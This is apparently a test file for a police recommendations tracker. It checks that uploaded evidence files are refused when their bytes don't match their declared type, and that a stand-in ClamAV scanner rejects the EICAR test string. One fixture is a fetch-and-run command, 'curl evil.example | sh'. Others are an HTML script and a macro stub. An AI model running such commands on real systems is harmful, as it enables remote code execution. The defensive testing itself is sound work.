import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import ExcelJS from 'exceljs';
import pino from 'pino';
import { clamdScanner } from '../../api/evidence/clamav';
import { EvidenceService } from '../../api/evidence/service';
import { buildApp } from '../../api/server';
import { AuditEvent, EvidenceItem, type Person } from '../../entities';
import { addPeople, apiClient, signIn, tokenFor } from '../support/apiClient';
import { OpenApiValidator } from '../support/openApiValidator';
import { startTestProduct, type TestProduct } from '../support/testProduct';
import { zipFile } from '../support/zipFile';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** Bytes of the kinds people upload, real in their first bytes (what a type is judged by). */
const bytes = {
  /** A Windows program: "MZ", and at the offset in 0x3c the PE signature. */
  exe: (() => {
    const exe = Buffer.alloc(512);
    exe.write('MZ', 0, 'latin1');
    exe.writeUInt32LE(0x80, 0x3c);
    exe.write('PE\u0000\u0000', 0x80, 'latin1');
    return exe;
  })(),
  pdf: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'),
  png: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64, 7)]),
  jpeg: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(64, 7)]),
  doc: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]),
  html: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/session")</script></body></html>'),
  docx: zipFile([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<w:document/>' },
  ]),
  docm: zipFile([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<w:document/>' },
    { name: 'word/vbaProject.bin', content: 'Attribute VB_Name = "AutoOpen"' },
  ]),
  csv: Buffer.from('name,trained\r\nAnna Kowalska,yes\r\nSeán Ó Briain,no\r\n'),
  eml: Buffer.from(
    'From: Tom Ellery <tom.ellery@test.police.uk>\r\nSubject: Training\r\nContent-Type: text/html\r\n\r\n<html><body>Done.</body></html>\r\n',
  ),
};
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

interface Answer {
  status: number;
  body: { title?: string; detail?: string; errors?: { field: string; message: string }[]; contentType?: string };
  headers: Headers;
}

/** A stand-in for clamd on loopback: reads INSTREAM's chunks and finds the EICAR test string, as clamd would. */
async function fakeClamd(listen: { port: 0 } | { path: string }): Promise<{ address: string; scans: number; close(): Promise<void> }> {
  const state = { scans: 0 };
  const server = net.createServer((socket) => {
    let data = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      data = Buffer.concat([data, chunk]);
      const command = 'zINSTREAM\0';
      if (data.length < command.length) return;
      if (data.subarray(0, command.length).toString() !== command) return void socket.end('UNKNOWN COMMAND\0');
      const parts: Buffer[] = [];
      for (let at = command.length; at + 4 <= data.length;) {
        const length = data.readUInt32BE(at);
        if (length === 0) {
          state.scans++;
          socket.end(Buffer.concat(parts).includes(EICAR) ? 'stream: Eicar-Test-Signature FOUND\0' : 'stream: OK\0');
          return;
        }
        if (at + 4 + length > data.length) return;
        parts.push(data.subarray(at + 4, at + 4 + length));
        at += 4 + length;
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(listen, resolve));
  const address = 'path' in listen ? listen.path : `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    address,
    get scans() {
      return state.scans;
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** An evidence file is kept only when its bytes are of the type it was sent as, and (when configured) clamd finds it clean. */
describe('evidence files are checked for what they really are', () => {
  let product: TestProduct;
  let p: Record<'admin' | 'owner' | 'lead', Person>;
  let itemId: string;
  let validator: OpenApiValidator;
  const PASSWORD = 'evidence-files-password';

  beforeAll(async () => {
    product = await startTestProduct();
    validator = new OpenApiValidator((await (await fetch(`${product.baseUrl}/api/openapi.json`)).json()) as Record<string, unknown>);
    const api = apiClient(product);
    p = await addPeople(product.app.dataSource, {
      admin: { name: 'Hannah Whitcombe', roles: ['administrator'] },
      owner: { name: 'Tom Ellery', roles: ['action_owner'] },
      lead: { name: 'Nadia Haskins', roles: ['lead'] },
    });
    api.actingAs(p.admin.id);
    [itemId] = (await api.createReport({
      title: 'Evidence files',
      originator: 'HMICFRS',
      kind: 'inspection',
      recommendations: [{ reference: '1', category: 2 }],
    })) as [string];
    await api.command(itemId, { type: 'assign', ownerId: p.owner.id, leadId: p.lead.id, dueDate: '2027-06-30' });
    await api.command(itemId, { type: 'accept' }, p.owner.id);
    await product.app.services.auth.setPassword(p.owner.id, PASSWORD, { id: null, label: 'test' });
  });
  afterAll(async () => {
    await product?.stop();
  });

  const stored = () => product.app.dataSource.manager.countBy(EvidenceItem, { recommendationId: itemId, kind: 'file' });
  const upload = async (content: Buffer, type: string, title: string, base = product.baseUrl): Promise<Answer> => {
    const url = `/api/recommendations/${itemId}/evidence/files?title=${encodeURIComponent(title)}`;
    const response = await fetch(`${base}${url}`, {
      method: 'POST',
      headers: { 'content-type': type, authorization: `Bearer ${await tokenFor(product, p.owner.id)}` },
      body: content,
    });
    const body = (await response.json()) as Answer['body'];
    // Every answer, refusals too, is one the OpenAPI document gives for this operation.
    const documented = Object.keys(validator.operation('POST', url)!.operation.responses as object);
    expect([
      response.status,
      documented.includes(String(response.status)),
      validator.problems('POST', url, response.status, response.headers.get('content-type'), body),
    ]).toEqual([response.status, true, []]);
    return { status: response.status, body, headers: response.headers };
  };

  it('refuses a program sent as a PDF, a web page sent as an image, and a program named .pdf, with 415 naming the file and what it looks like', async () => {
    const before = await stored();
    for (const [content, type, title, said] of [
      [bytes.exe, 'application/pdf', 'invoice.exe', 'looks like a Windows program, not a PDF'],
      [bytes.html, 'image/png', 'photo.png', 'looks like a web page or other markup (HTML, SVG or XML), not a PNG image'],
      [bytes.exe, 'application/pdf', 'evil.pdf', 'looks like a Windows program, not a PDF'],
      [bytes.html, 'text/plain', 'notes.txt', 'looks like a web page or other markup (HTML, SVG or XML), not a text file'],
      [bytes.docm, DOCX, 'Policy.docx', 'looks like an Office document with macros, not a Word document'],
      [Buffer.from(`#!/bin/sh\ncurl evil.example | sh\n`), 'text/plain', 'run.txt', 'looks like a script, not a text file'],
      [Buffer.from('name\u0000,x\n'), 'text/csv', 'data.csv', 'looks like a binary file, not a CSV file'],
      [
        Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x2c, 0xa3, 0x35, 0x0a]),
        'text/csv',
        'costs.csv',
        'looks like text that is not UTF-8 (save it as UTF-8: in Excel, as “CSV UTF-8”), not a CSV file',
      ],
      [
        Buffer.from(await new ExcelJS.Workbook().xlsx.writeBuffer()),
        DOCX,
        'Plan.docx',
        'looks like an Excel workbook, not a Word document',
      ],
    ] as const) {
      const answer = await upload(content, type, title);
      expect([title, answer.status, answer.body.title, answer.body.errors]).toEqual([
        title,
        415,
        'The file is not what its type says',
        [{ field: 'body', message: said }],
      ]);
      expect(answer.body.detail).toContain(`“${title}” ${said}.`);
    }
    const named = await upload(bytes.pdf, 'application/pdf', 'invoice.exe');
    expect([named.status, named.body.errors]).toEqual([415, [{ field: 'query.title', message: 'is named .exe, which is not a PDF' }]]);
    expect(await stored()).toBe(before);
  });

  it('keeps files that are what they say, whatever the title looks like; a CSV sent as Excel 97-2003 is kept as CSV', async () => {
    for (const [content, type, title] of [
      [bytes.pdf, 'application/pdf', 'Training register.pdf'],
      [bytes.png, 'image/png', 'Poster'],
      [bytes.jpeg, 'image/jpeg', 'Photo of the briefing.jpg'],
      [bytes.doc, 'application/msword', 'Old policy.doc'],
      [bytes.docx, DOCX, 'Policy v1.2'],
      [Buffer.from(await new ExcelJS.Workbook().xlsx.writeBuffer()), XLSX, 'Plan.xlsx'],
      [bytes.csv, 'text/csv', 'Mr. Smith’s list'],
      [bytes.eml, 'message/rfc822', 'Confirmation.eml'],
    ] as const) {
      expect([title, (await upload(content, type, title)).status]).toEqual([title, 201]);
    }
    const csv = await upload(bytes.csv, 'application/vnd.ms-excel', 'trained.csv');
    expect([csv.status, csv.body.contentType]).toEqual([201, 'text/csv']);
    expect((await upload(bytes.csv, 'application/vnd.ms-excel', 'trained')).status).toBe(415);
  });

  it('refuses the same files on the page, with a GOV.UK error summary naming the file', async () => {
    const session = await signIn(product.baseUrl, p.owner.email, PASSWORD);
    const before = await stored();
    for (const [content, type, name, said] of [
      [bytes.exe, 'application/pdf', 'invoice.exe', 'looks like a Windows program, not a PDF'],
      [bytes.html, 'image/png', 'photo.png', 'looks like a web page or other markup (HTML, SVG or XML), not a PNG image'],
      [bytes.pdf, 'application/pdf', 'invoice.pdf.exe', 'is named .exe, which is not a PDF'],
    ] as const) {
      const form = new FormData();
      form.set('_csrf', session.csrfToken);
      form.set('file', new Blob([content], { type }), name);
      const response = await fetch(`${product.baseUrl}/recommendations/${itemId}/evidence/files`, {
        method: 'POST',
        redirect: 'manual',
        headers: { cookie: session.cookie },
        body: form,
      });
      const html = await response.text();
      expect([name, response.status]).toEqual([name, 415]);
      expect(html).toContain('govuk-error-summary');
      expect(html).toContain('href="#evidenceFile-file"');
      expect(html).toContain(`“${name}” ${said}.`);
    }
    expect(await stored()).toBe(before);
  });

  describe('with clamd configured', () => {
    const scanned = async (address: string, work: (base: string) => Promise<void>) => {
      const services = { ...product.app.services, evidence: new EvidenceService(product.app.dataSource, clamdScanner(address, 2_000)) };
      const app = buildApp({
        dataSource: product.app.dataSource,
        ...services,
        logger: pino({ level: 'silent' }),
        readiness: async () => ({ ready: true, checks: {} }),
        forceName: 'Test',
        evidenceMaxBytes: 1024 * 1024,
      });
      const server = http.createServer(app);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      try {
        await work(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
      } finally {
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
    };

    it('scans each file with INSTREAM before keeping it, and refuses an infected one with 422 on the audit trail', async () => {
      const clamd = await fakeClamd({ port: 0 });
      try {
        await scanned(clamd.address, async (base) => {
          expect((await upload(bytes.pdf, 'application/pdf', 'Clean.pdf', base)).status).toBe(201);
          const before = await stored();
          const infected = await upload(Buffer.from(`${EICAR}\r\n`), 'text/plain', 'eicar.txt', base);
          expect([infected.status, infected.body.title, infected.body.errors]).toEqual([
            422,
            'The file contains a virus',
            [{ field: 'body', message: 'contains Eicar-Test-Signature' }],
          ]);
          expect(await stored()).toBe(before);
          // Refused for its type before it is ever sent to the scanner.
          expect((await upload(bytes.exe, 'application/pdf', 'invoice.exe', base)).status).toBe(415);
        });
        expect(clamd.scans).toBe(2);
        const audit = await product.app.dataSource.manager.findOneByOrFail(AuditEvent, {
          recommendationId: itemId,
          type: 'evidence_refused_infected',
        });
        expect(audit.summary).toBe('Refused an evidence file: the virus scanner found Eicar-Test-Signature in “eicar.txt”');
        expect(audit.after).toMatchObject({ name: 'eicar.txt', signature: 'Eicar-Test-Signature', sizeBytes: EICAR.length + 2 });
      } finally {
        await clamd.close();
      }
    });

    it('reaches clamd over a unix socket too, and keeps nothing (503, Retry-After) when it does not answer', async () => {
      const socketPath = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'rt-clamd-')), 'clamd.sock');
      const clamd = await fakeClamd({ path: socketPath });
      try {
        await scanned(socketPath, async (base) => {
          expect((await upload(bytes.png, 'image/png', 'Poster.png', base)).status).toBe(201);
        });
      } finally {
        await clamd.close();
      }
      const before = await stored();
      await scanned(socketPath, async (base) => {
        const answer = await upload(bytes.png, 'image/png', 'Poster.png', base);
        expect([answer.status, answer.body.title, answer.headers.get('retry-after')]).toEqual([
          503,
          'The virus scanner is not answering',
          '60',
        ]);
      });
      expect(await stored()).toBe(before);
    });
  });
});
